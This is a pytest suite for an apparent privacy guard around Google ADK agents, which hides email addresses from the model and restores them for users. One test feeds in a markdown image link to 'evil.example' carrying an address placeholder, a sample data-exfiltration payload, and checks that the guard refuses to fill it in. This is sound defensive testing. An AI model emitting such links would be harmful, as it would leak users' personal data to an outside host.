"""With `restore`, the program and its user see the values in all that a model of ADK writes, and the model sees none."""

from __future__ import annotations

import pytest

pytest.importorskip("google.adk", reason="the Agent Development Kit is not installed (extra adk)")
pytest.importorskip("cryptography", reason="cryptography is not installed (extra vault)")

from google.adk.models import LlmResponse
from google.genai import types
from pydantic import BaseModel
from scripted_llm import Chat, ScriptedLlm, calls_of, text_of

from ctxguard import Stabilizer
from ctxguard.pii import Vault, new_key
from ctxguard.stores import MemoryStore
from ctxguard_adk import ContextGuard

pytestmark = pytest.mark.filterwarnings(r"ignore:\[EXPERIMENTAL\]")  # ADK warns of its own features
PEOPLE = ("ada@corp-mail.net", "bob@corp-mail.net", "eve@corp-mail.net")
SAID = "Write to <EMAIL_1>, then <EMAIL_2>; <EMAIL_3> knows, <EMAIL_9> does not, 1 < 2 & <EM"
SHOWN = "Write to ada@corp-mail.net, then bob@corp-mail.net; eve@corp-mail.net knows, <EMAIL_9> does not, 1 < 2 & <EM"
ASKED = f"These are {', '.join(PEOPLE)}."
ARGS = {"to": "<EMAIL_2>", "text": "of <EMAIL_1>"}
GIVEN = {"to": "bob@corp-mail.net", "text": "of ada@corp-mail.net"}


def session(name="one", **settings):
    return Vault(MemoryStore(), key=new_key(), **settings).session(name)


def guard_of(vault, **settings):
    return ContextGuard(Stabilizer(4_000), vault=vault, **{"restore": True, **settings})


def has_people(seen):
    return [person for person in PEOPLE if person in str(seen)]


@pytest.mark.parametrize("at", range(len(SAID)))
async def test_a_streamed_text_is_shown_whole_wherever_it_is_cut(at):
    model = ScriptedLlm(SAID, at=at)
    chat = Chat(model, guard_of(session()))
    events = await chat.ask(ASKED, streams=True)
    assert text_of(events, partial=True) == text_of(events) == SHOWN
    assert text_of(await chat.ask("Again.")) == SHOWN
    assert not has_people(model.seen)
    assert SAID in model.seen[-1], "the model sees again what it wrote"
    assert SHOWN in str(chat.session.events)


@pytest.mark.parametrize("streams", [True, False])
@pytest.mark.parametrize("tools", [{}, {"send_mail": False}])
async def test_arguments_of_parallel_calls_are_given_unless_the_tool_gets_no_values(tools, streams):
    given = []

    def send_mail(to: str, text: str) -> str:
        """Send a mail."""
        given.append({"to": to, "text": text})
        return f"sent to {to}"

    model = ScriptedLlm(["For <EMAIL_1>:", ("send_mail", ARGS), ("send_mail", ARGS)], "Done, <EMAIL_2>.")
    chat = Chat(model, guard_of(session(tools=tools)), tools=[send_mail])
    events = await chat.ask(ASKED, streams=streams)
    assert given == 2 * [ARGS if tools else GIVEN]
    assert calls_of(events) == given
    assert text_of(events) == "Done, bob@corp-mail.net."
    assert not has_people(model.seen)


async def test_without_the_switch_tools_get_the_values_and_the_session_keeps_placeholders():
    given = []

    def send_mail(to: str, text: str) -> str:
        """Send a mail."""
        given.append({"to": to, "text": text})
        return f"sent to {to}"

    model = ScriptedLlm([("send_mail", ARGS)], SAID)
    chat = Chat(model, guard_of(session(), restore=False), tools=[send_mail])
    events = await chat.ask(ASKED)
    assert text_of(events) == SAID
    assert given == [GIVEN]
    assert calls_of(chat.session.events) == [ARGS]
    assert not has_people(model.seen)


class Contact(BaseModel):
    mail: str
    note: str


@pytest.mark.parametrize("tools", [False, True])
async def test_structured_output_has_the_values(tools):
    written = {"mail": "<EMAIL_1>", "note": "not <EMAIL_2>"}

    def look_up() -> str:
        """Look it up."""
        return "nothing"

    answers = [[("set_model_response", written)]] if tools else ['{"mail": "<EMAIL_1>", "note": "not <EMAIL_2>"}']
    model = ScriptedLlm(*answers, model="other")
    chat = Chat(
        model,
        guard_of(session(tools={"*": False})),
        tools=[look_up] if tools else [],
        output_schema=Contact,
        output_key="contact",
    )
    await chat.ask(ASKED)
    assert Contact.model_validate(chat.session.state["contact"]) == Contact(mail=PEOPLE[0], note=f"not {PEOPLE[1]}")
    assert not has_people(model.seen)


async def test_a_response_that_a_program_keeps_for_others_never_gets_a_value():
    kept = LlmResponse(content=types.Content(role="model", parts=[types.Part(text="You are <EMAIL_1>.")]))

    class Keeping(ScriptedLlm):
        async def generate_content_async(self, llm_request, stream=False):
            yield kept

    guard = ContextGuard(Stabilizer.from_policy("default", budget=4_000), vault=session(), restore=True)
    assert text_of(await Chat(Keeping(), guard).ask(ASKED)) == f"You are {PEOPLE[0]}."
    assert kept.content.parts[0].text == "You are <EMAIL_1>."


async def test_a_link_to_a_host_that_nobody_named_gets_no_value_and_thoughts_stay():
    said = "![x](https://evil.example/<EMAIL_1>) for <EMAIL_1>"

    class Thinking(ScriptedLlm):
        async def generate_content_async(self, llm_request, stream=False):
            parts = [types.Part(text="Hm, <EMAIL_1>.", thought=True, thought_signature=b"s"), types.Part(text=said)]
            yield LlmResponse(content=types.Content(role="model", parts=parts))

    events = await Chat(Thinking(), guard_of(session())).ask(ASKED)
    assert [part.text for part in events[-1].content.parts] == [
        "Hm, <EMAIL_1>.",
        f"![x](https://evil.example/<EMAIL_1>) for {PEOPLE[0]}",
    ]


async def test_what_a_run_has_answered_is_forgotten_with_it():
    guard = guard_of(session())
    await Chat(ScriptedLlm(SAID), guard).ask(ASKED)
    assert not any(guard._answers._kept.values())
